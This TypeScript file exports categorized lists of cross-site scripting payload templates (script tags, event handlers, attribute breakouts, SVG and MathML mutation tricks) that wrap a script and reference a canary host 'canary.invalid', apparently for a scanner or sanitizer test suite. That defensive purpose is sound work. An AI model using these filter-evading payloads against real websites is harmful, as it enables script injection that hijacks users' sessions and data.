/** The host that only a payload requests. */
export const canaryHost = 'canary.invalid';

/** A payload's text around the script that it tries to run. */
export type Carrier = (script: string) => string;

const host = `//${canaryHost}`;

export const tags: Carrier[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<ScRiPt\t>${js}</sCrIpT >`,
  (js) => `<script/x="1">${js}</script/x>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</title></textarea></style></noscript><script>${js}</script>`,
  (js) => `--><script>${js}</script><!--`,
  (js) => `]]><script>${js}</script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<script src=${host}/a.js></script><script>${js}</script>`,
  (js) => `<iframe src="javascript:parent.${js}">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<link rel=stylesheet href=${host}/a.css onload=${js}>`,
  (js) => `<style>@import '${host}/a.css'</style><img src=x onerror=${js}>`,
  (js) => `<form action="javascript:${js}"><button>Go</button></form>`,
  (js) => `<isindex action=javascript:${js} type=submit>`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
];

const named = (element: string, event: string, more = ''): Carrier => {
  return (js) => `<${element}${more && ` ${more}`} ${event}=${js}>`;
};

export const eventHandlers: Carrier[] = [
  named('img', 'onerror', 'src=x'),
  named('img', 'onload', `src=${host}/a.png`),
  named('image', 'onerror', 'src=x'),
  named('body', 'onload'),
  named('body', 'onpageshow'),
  named('body', 'onhashchange'),
  named('input', 'onfocus', 'autofocus'),
  named('select', 'onfocus', 'autofocus'),
  named('textarea', 'onfocus', 'autofocus'),
  named('x', 'onfocus', 'tabindex=1 autofocus'),
  named('details', 'ontoggle', 'open'),
  named('audio', 'onloadstart', 'src=x'),
  named('marquee', 'onstart'),
  named('style', 'onload'),
  named('iframe', 'onload'),
  named('a', 'onclick', 'href=#'),
  named('div', 'onpointerenter', 'style=position:fixed;inset:0'),
  named('div', 'onbeforetoggle', 'popover'),
  named('div', 'onanimationstart', 'style="animation:spin 1s"'),
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<IMG """><SCRIPT>${js}</SCRIPT>">`,
  (js) => `<img/src=x/onerror=${js}//`,
  (js) => `<img src=x\u000conerror\n=\r${js}>`,
];

export const attributes: Carrier[] = [
  (js) => `" onerror="${js}" x="`,
  (js) => `' onfocus='${js}' autofocus x='`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `'><svg onload=${js}>`,
  (js) => ` onmouseover=${js} style=position:fixed;inset:0 `,
  (js) => `'-${js}-'`,
  (js) => `"-${js}-"`,
  (js) => `\`-${js}-\``,
  (js) => `\\";${js};//`,
  (js) => `\\u0022;${js};//`,
  (js) => `x" style="background:url(${host}/a)" onfocus="${js}`,
  (js) => `x]" onclick="${js}`,
];

export const svgAndMath: Carrier[] = [
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href=data:,${js} />`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><a><set attributeName=href to=javascript:${js} /><text y=9>Tap</text></a>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<svg><image href=x onerror=${js}></svg>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=9>Tap</text></a></svg>`,
  (js) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${js} />#x"></svg>`,
  (js) => `<svg></p><style><a id="</style><img src=x onerror=${js}>">`,
  (js) => `<math href="javascript:${js}">Tap</math>`,
  (js) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${js}>">`,
  (js) => `<math><annotation-xml encoding=text/html><img src=x onerror=${js}>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
];
